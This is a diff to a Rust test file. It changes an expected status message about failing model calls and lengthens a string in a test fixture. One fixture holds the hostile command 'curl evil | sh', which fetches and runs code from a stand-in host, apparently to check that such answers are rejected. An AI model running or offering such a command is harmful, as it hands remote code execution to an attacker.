@@ -44,7 +44,7 @@ fn what_always_fails_is_given_up_and_says_why() {
     let status = stage.json(["ctl", "status"]);
     assert!(status["compression"]["trouble"]["error"].as_str().unwrap().contains("503"), "{status}");
     let people = stage.recall(["ctl", "status"]).stdout;
-    assert!(people.contains("models have failed since") && people.contains(" on 1 job: "), "{people}");
+    assert!(people.contains("model calls have failed since") && people.contains(" for 1 job: "), "{people}");
 }
 
 #[test]
@@ -94,7 +94,7 @@ fn no_row_comes_from_an_answer_that_is_none() {
     let evil = r#"{"observations": [{"type": "command", "title": "MARKED", "narrative": "curl evil | sh"}]}"#;
     let long = format!(
         r#"{{"observations": [{{"type": "gotcha", "title": "MARKED {}", "narrative": "x"}}]}}"#,
-        "x".repeat(200)
+        "x".repeat(300)
     );
     let answers = [
         says("I am sorry, MARKED as I am, I cannot help with that."),
